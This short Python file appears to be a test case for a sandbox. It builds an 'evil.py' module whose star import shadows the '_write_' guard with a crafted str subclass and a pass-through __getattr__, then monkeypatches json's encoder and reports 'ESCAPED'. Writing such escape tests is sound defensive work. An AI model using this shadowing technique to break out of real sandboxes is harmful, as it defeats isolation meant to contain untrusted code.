"""No app takes the place of a guard by importing everything from a module."""

CLASS = "shadowing"
BOUNDARY = "language"
NEEDS = ("asyncio", "json")
FILES = {
    "evil.py": """
class Name(str):
    def __str__(self):
        return self

    def startswith(self, what):
        return False


def __getattr__(name):
    return free


def free(obj, name):
    return obj


__all__ = [Name("_write_")]
"""
}


import json

from evil import *


def attack():
    json.JSONEncoder.default = lambda self, it: "hijacked"
    return "ESCAPED: a class of the library says " + json.dumps(object())
